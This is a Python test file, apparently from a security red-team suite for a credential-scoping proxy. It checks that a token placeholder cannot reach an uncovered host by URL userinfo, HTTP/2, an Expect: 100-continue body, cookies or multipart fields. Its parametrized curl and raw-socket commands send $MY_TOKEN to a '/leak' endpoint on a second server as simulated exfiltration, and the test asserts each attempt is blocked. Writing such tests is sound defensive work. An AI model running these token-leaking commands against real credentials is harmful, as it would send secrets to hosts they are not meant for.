"""Issue 13 (second look at red team 13's fixes): other places a request can carry the
placeholder to a host its credential does not cover: the URL's userinfo in an absolute-form
request line inside the tunnel (raw, as no ordinary client sends it: mitmproxy's parser
answers 400 before any hook, so that one is refused but not marked), a client asking for
HTTP/2, a body sent after `Expect: 100-continue`, a cookie, a multipart form field. Each is
denied before it leaves and the step marked; the second server's log is the oracle. Runs as
root and as an unprivileged user."""

import json
import shutil
from urllib.parse import unquote

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None or shutil.which("python3") is None,
                                reason="socat or python3 is not installed")

# A raw request line through $HTTPS_PROXY's tunnel: argv[1] host:port, argv[2] the request
# line's target ("PH": the placeholder).
RAW = r'''
import base64, os, socket, ssl, sys
from urllib.parse import urlsplit
host, port = sys.argv[1].rsplit(":", 1)
p = urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=20)
auth = base64.b64encode(f"{p.username}:{p.password}".encode()).decode()
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname=host)
target = sys.argv[2].replace("PH", os.environ["MY_TOKEN"])
t.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
out = b""
while True:
    got = t.recv(65536)
    if not got:
        break
    out += got
print(out.split(b"\r\n")[0].decode())
'''


@pytest.mark.parametrize("send", [
    "python3 /tmp/raw.py {hp} 'https://x:PH@{hp}/leak'",                          # userinfo
    "curl -s --http2 -o /dev/null -H \"X-Note: $MY_TOKEN\" {url}/leak",             # HTTP/2 asked
    "curl -s -o /dev/null -H 'Expect: 100-continue' --data \"t=$MY_TOKEN\" {url}/leak",
    "curl -s -o /dev/null -b \"session=$MY_TOKEN\" {url}/leak",                    # a cookie
    "curl -s -o /dev/null -b \"session=%$(printf %s \"$MY_TOKEN\" | head -c1 | od -An -tx1 | tr -d ' \\n')"
    "${{MY_TOKEN#?}}\" {url}/leak",                       # a cookie, percent-encoded as servers decode it
    "curl -s -o /dev/null -F \"f=$MY_TOKEN\" {url}/leak",                          # multipart
])
def test_the_placeholder_by_another_route_is_denied(attacker, send):
    with servers() as (git, stub):
        attacker.env["MY_TOKEN"] = CANARY
        netproject(attacker, git, stub, "irreversible: []\n"
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        assert ph and ph != CANARY
        hp = hostport(stub, "stub.example.test")
        r = attacker.run(f"cat > /tmp/raw.py <<'EOF'\n{RAW}\nEOF\n" + send.format(hp=hp, url=f"https://{hp}"))
        got = [q for q in stub.requests if ph in unquote(json.dumps({k: v for k, v in q.items() if k != "body"}))
               or ph.encode() in q["body"]]
        assert not got, f"the second server received the placeholder: {got}"
        if "raw.py" in send:            # mitmproxy's parser refuses it before any hook: no mark
            assert r.stdout.startswith("HTTP/1.1 400"), r.stdout + r.stderr
            return
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (r.stdout + r.stderr, s["marks"], s["requests"])
